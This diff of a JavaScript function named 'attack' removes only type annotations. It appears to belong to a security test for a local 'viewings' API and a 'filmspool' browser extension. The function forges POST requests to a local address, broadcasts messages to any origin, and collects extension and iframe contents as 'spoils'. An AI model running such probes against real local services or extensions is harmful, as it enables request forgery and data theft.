@@ -43,7 +43,7 @@ async function attack(address, origin) {
   await request(`http://${address}/v1/viewings`, { mode: "no-cors", method: "POST", body });
   await request(`http://${address}/v1/viewings`, { method: "POST", body, headers });
 
-  const { runtime } = /** @type {any} */ (globalThis.chrome ?? {});
+  const { runtime } = (globalThis.chrome ?? {});
   for (const message of [{ kind: "state" }, { kind: "watched", sitting: viewing }]) {
     postMessage(message, "*");
     document.dispatchEvent(new CustomEvent("filmspool", { detail: message }));
@@ -55,7 +55,7 @@ async function attack(address, origin) {
     frame.onload = loaded;
     document.body.append(frame);
   });
-  spoils.extension.push(/** @type {any} */ (globalThis).filmspool ?? null, frame.contentDocument?.body?.innerText || null);
+  spoils.extension.push(globalThis.filmspool ?? null, frame.contentDocument?.body?.innerText || null);
   return spoils;
 }
 
